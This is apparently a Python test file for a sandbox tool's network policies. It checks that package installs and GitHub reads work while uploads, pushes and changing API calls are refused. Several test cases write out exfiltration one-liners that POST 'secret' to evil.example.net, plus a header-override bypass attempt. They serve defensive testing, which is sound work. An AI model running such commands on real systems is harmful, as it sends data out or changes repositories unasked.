"""The shipped policies with a network, and the presets, against stand-ins of the services that they name: what is
promised works with the real tool, and what is not is refused in words. usage: see boxed.py"""
import re

from boxed import *
from world.sites import PACKAGE, VERSION
from world.zone import NPM

WORK = os.path.join(place, "work")
os.mkdir(WORK)
if user:
    shutil.chown(WORK, user, user)


def shipped(name, cases, flags=()):
    """In a box of the shipped policy of that name, in an empty project."""
    line = ["--overlay", WORK] if name == "github-read" else []
    r = inside(name, cases, flags=[*line, *flags])
    verified(name, r)
    return r


@case
def pip_install():
    world.clear()
    # A package whose set-up script tries to send something away.
    post = f"{PYTHON} -c \"import urllib.request as u; u.urlopen(u.Request('https://%s/legacy/', data=b'secret', method='POST'), timeout=5)\""
    r = shipped("pip-install", [
        {"name": "install", "argv": ["pip", "install", "--target", "/tmp/there", PACKAGE], "timeout": 60},
        {"name": "import", "argv": [PYTHON, "-c", f"import {PACKAGE.replace('-', '_')} as p; print(p.answer)"], "env": {"PYTHONPATH": "/tmp/there"}},
        {"name": "in a list", "argv": ["sh", "-c", f"cd && echo '{PACKAGE}=={VERSION}' > r.txt && pip install -q --target t -r r.txt && ls t"], "timeout": 60},
        {"name": "no such package", "argv": ["pip", "install", "--target", "/tmp/no", "nobody-has-this"], "timeout": 60},
        {"name": "another index", "argv": ["pip", "install", "--retries", "0", "--index-url", "https://evil.example.net/simple/", PACKAGE], "timeout": 60},
        {"name": "upload", "argv": ["curl", "-sS", "-X", "POST", "-d", "secret", "https://pypi.org/legacy/"]},
        {"name": "upload, Python", "argv": ["sh", "-c", post % "pypi.org"]},
        {"name": "send away", "argv": ["sh", "-c", post % "evil.example.net"]},
    ])
    check("pip installs a package", r.cases["install"]["status"] == 0 and VERSION in r.cases["install"]["out"], r.cases["install"])
    same("which works", r.cases["import"]["out"], "42\n")
    check("from a list, too", PACKAGE.replace("-", "_") in r.cases["in a list"]["out"], r.cases["in a list"])
    check("no such package: pip's own words", "No matching distribution" in r.cases["no such package"]["err"], r.cases["no such package"])
    check("another index is not reached", r.cases["another index"]["status"] != 0, r.cases["another index"])
    check("an upload is refused, in words", "Pale" in r.cases["upload"]["out"] and "not published" in r.cases["upload"]["out"], r.cases["upload"])
    check("by any program", "403" in r.cases["upload, Python"]["err"], r.cases["upload, Python"])
    same("nothing was sent", [e for e in world.seen("request") if e["method"] not in ("GET", "HEAD")], [])
    check("what was refused is in `blocked`, with the reason", r.find(host="pypi.org", reason=lambda t: t and "not published" in t), r.blocked)
    check("each request is in the log", r.find(blocked=False, host="files.pythonhosted.org", method="GET"), r.text[-1500:])


@case
def npm_install():
    if not shutil.which("npm", path=PATH):
        skip("npm-install", "npm is not on this machine")
        return
    world.clear()
    r = shipped("npm-install", [
        {"name": "install", "argv": ["sh", "-c", f"mkdir /tmp/p && cd /tmp/p && echo '{{}}' > package.json && npm install {PACKAGE} && node -e 'console.log(require(\"{PACKAGE}\"))'"],
         "timeout": 60},
        {"name": "publish", "argv": ["sh", "-c", "mkdir /tmp/q && cd /tmp/q && echo '{\"name\": \"mine\", \"version\": \"1.0.0\"}' > package.json && "
                                                f"npm publish --registry https://{NPM}/ --//{NPM}/:_authToken=x"],
         "timeout": 60},
        {"name": "put", "argv": ["curl", "-sS", "-X", "PUT", "-d", "secret", f"https://{NPM}/{PACKAGE}"]},
        {"name": "another registry", "argv": ["npm", "install", "--fetch-retries=0", "--registry", "https://evil.example.net/", PACKAGE], "timeout": 60},
        {"name": "send away", "argv": ["node", "-e", "fetch('https://evil.example.net/', {method: 'POST', body: 'secret'}).then(() => process.exit(0), () => process.exit(3))"]},
    ])
    check("npm installs a package, which works", r.cases["install"]["status"] == 0 and r.cases["install"]["out"].strip().endswith("42"), r.cases["install"])
    check("publishing is refused", r.cases["publish"]["status"] != 0, r.cases["publish"])
    check("in words", "Pale" in r.cases["put"]["out"] and "not published" in r.cases["put"]["out"], r.cases["put"])
    check("npm shows them or the status", "403" in r.cases["publish"]["err"], r.cases["publish"])
    check("another registry is not reached", r.cases["another registry"]["status"] != 0, r.cases["another registry"])
    same("an install script cannot send anything away", r.cases["send away"]["status"], 3)
    same("nothing was sent", [e for e in world.seen("request") if e["method"] not in ("GET", "HEAD")], [])


@case
def github_read():
    world.clear()
    api = "https://api.github.com/repos/a/project"
    git = "git -c user.name=x -c user.email=x@y"
    r = shipped("github-read", [
        {"name": "issues", "argv": ["curl", "-sS", api + "/issues"]},
        {"name": "clone", "argv": ["sh", "-c", "git clone -q https://github.com/a/project.git /tmp/project && cat /tmp/project/README"]},
        {"name": "fetch", "argv": ["sh", "-c", "cd /tmp/project && git fetch -q && git log --oneline | wc -l"]},
        {"name": "push", "argv": ["sh", "-c", f"cd /tmp/project && {git} commit -q --allow-empty -m x && git push"]},
        {"name": "create", "argv": ["curl", "-sS", "-d", '{"title": "changed"}', api + "/issues"]},
        {"name": "create, Python", "argv": [PYTHON, "-c", f"import requests; r = requests.post('{api}/issues', json={{'title': 'x'}}); print(r.status_code, r.text)"]},
        {"name": "create, JSON asked for", "argv": ["curl", "-sS", "-H", "Accept: application/json", "-d", "{}", api + "/issues"]},
        {"name": "close", "argv": ["curl", "-sS", "-X", "PATCH", "-d", '{"state": "closed"}', api + "/issues/1"]},
        {"name": "delete", "argv": ["curl", "-sS", "-X", "DELETE", api]},
        {"name": "graphql", "argv": ["curl", "-sS", "-d", '{"query": "{viewer{login}}"}', "https://api.github.com/graphql"]},
        {"name": "override", "argv": ["curl", "-sS", "-X", "POST", "-H", "X-HTTP-Method-Override: GET", "-d", "{}", api + "/issues"]},
        {"name": "gist", "argv": ["curl", "-sS", "-m", "5", "-d", "{}", "https://gist.github.com/"]},
        {"name": "raw", "argv": ["curl", "-sS", "https://raw.githubusercontent.com/a/project/main/README"]},
        {"name": "upload to a raw host", "argv": ["curl", "-sS", "-X", "PUT", "-d", "x", "https://objects.githubusercontent.com/x"]},
        {"name": "ssh", "argv": ["sh", "-c", "GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no -o BatchMode=yes' git clone ssh://git@github.com/a/project.git /tmp/q"]},
        {"name": "api by HTTP/1", "argv": ["curl", "-sS", "--http1.1", "-d", "{}", api + "/issues"]},
    ])
    check("issues may be read", "It works" in r.cases["issues"]["out"], r.cases["issues"])
    check("git clone", "a repository" in r.cases["clone"]["out"], r.cases["clone"])
    same("git fetch", r.cases["fetch"]["status"], 0)
    check("git push: refused, and git says 403", r.cases["push"]["status"] != 0 and "403" in r.cases["push"]["err"], r.cases["push"])
    for name in ("create", "create, Python", "create, JSON asked for", "close", "delete", "api by HTTP/1", "graphql"):
        check(f"{name}: refused: Pale's policy, and what to do instead", "pale" in r.cases[name]["out"].lower() and "into a file" in r.cases[name]["out"], r.cases[name])
    try:
        told = json.loads(r.cases["create, JSON asked for"]["out"])
        check("as JSON where that is asked for", "into a file" in json.dumps(told), told)
    except ValueError:
        check("as JSON where that is asked for", False, r.cases["create, JSON asked for"])
    check("an override of the method does not help", "Pale" in r.cases["override"]["out"], r.cases["override"])
    check("gist is not there", r.cases["gist"]["status"] != 0, r.cases["gist"])
    check("raw files may be read", "hello from raw" in r.cases["raw"]["out"], r.cases["raw"])
    check("but nothing put there", "Pale" in r.cases["upload to a raw host"]["out"], r.cases["upload to a raw host"])
    check("nor by ssh", r.cases["ssh"]["status"] != 0, r.cases["ssh"])
    changing = [e for e in world.seen("request") if e["method"] not in ("GET", "HEAD") and not e["path"].endswith("/git-upload-pack")]
    same("no request arrived that changes anything", changing, [])
    issues = json.loads(world.run(["curl", "-sS", api + "/issues"], env=env).stdout)
    same("nothing was changed at the server", len(issues), 1)
    check("in `blocked`: host, rule's reason, count", r.find(host="api.github.com", reason=lambda t: t and "into a file" in t), r.blocked)
    # Without the policy's methods the same request changes it.
    r = inside({"network": {"allow": [{"host": "api.github.com", "intercept": True}]}},
               [{"name": "create", "argv": ["curl", "-sS", "-d", '{"title": "changed"}', api + "/issues"]}])
    issues = json.loads(world.run(["curl", "-sS", api + "/issues"], env=env).stdout)
    check("where a rule allows it, the same request changes it", len(issues) == 2, r.cases)


@case
def other_ecosystems():
    """cargo and Go through an opened TLS: by preset, and by rules."""
    model = {"network": {"allow": [{"preset": "crates", "methods": ["GET", "HEAD"]},
                                   {"host": "proxy.golang.org", "methods": ["GET"]}]},
             "limits": {"wall": "60s", "cpu": "60s", "memory": "2GiB", "cpus": 2, "processes": 256, "disk": "1GiB", "open_files": 4096}}
    cases = []
    if shutil.which("cargo", path=PATH):
        cargo = ("cd && mkdir -p c/src && cd c && printf '[package]\\nname=\"c\"\\nversion=\"0.1.0\"\\nedition=\"2021\"\\n[dependencies]\\n" + PACKAGE +
                 "=\"1\"\\n' > Cargo.toml && echo 'fn main(){}' > src/main.rs && /usr/bin/cargo fetch && find ~/.cargo -name lib.rs")
        cases.append({"name": "cargo", "argv": ["sh", "-c", cargo], "timeout": 50,
                      "env": {"RUSTC_BOOTSTRAP": "1", "CARGO_UNSTABLE_SPARSE_REGISTRY": "true", "CARGO_REGISTRIES_CRATES_IO_PROTOCOL": "sparse"}})
    else:
        skip("cargo", "not on this machine")
    if shutil.which("go", path=PATH):
        go = "cd && mkdir g && cd g && go mod init g 2>/dev/null && GONOSUMDB=* GONOSUMCHECK=1 GOFLAGS=-mod=mod GONOSUMDB=example.com GOSUMDB=off go get example.com/standin && cat go.mod"
        cases.append({"name": "go", "argv": ["sh", "-c", go], "timeout": 50, "env": {"GOPROXY": "https://proxy.golang.org"}})
    else:
        skip("go", "not on this machine")
    r = inside(model, cases)
    if "cargo" in r.cases:
        check("cargo fetches a crate of the sparse index", "lib.rs" in r.cases["cargo"]["out"], r.cases["cargo"])
    if "go" in r.cases:
        check("go gets a module of the proxy", f"example.com/standin v{VERSION}" in r.cases["go"]["out"], r.cases["go"])


@case
def they_say_what_they_are():
    """Each shipped policy with a network: what `pale explain` promises names its hosts, and it changes nothing by itself."""
    for name, host in (("pip-install", "pypi.org"), ("npm-install", "*.npmjs.org"), ("github-read", "api.github.com")):
        p = world.run([pale, "explain", "-p", name], env=env, cwd=WORK)
        check(f"pale explain -p {name} names {host}, and that TLS is opened", host in p.stdout.decode() and
              re.search("interc|open", p.stdout.decode()), (p.stdout + p.stderr).decode()[-2000:])
    same("the project is as it was", os.listdir(WORK), [])


@case
def the_page():
    """docs/network.md: its examples are policies."""
    with open(os.path.join(os.path.dirname(os.path.dirname(HERE)), "docs", "network.md"), encoding="utf-8") as f:
        examples = re.findall(r"```yaml\n(.*?)```", f.read(), re.S)
    check("docs/network.md has examples", len(examples) >= 3, examples)
    for example in examples:
        path = os.path.join(world.place, "example.yaml")
        with open(path, "w") as f:
            f.write(example)
        os.chmod(path, 0o644)
        p = world.run([pale, "policy", "check", path], env=env)
        check("an example of docs/network.md is a policy", p.returncode == 0, p.stderr.decode())


nothing_left()
done()
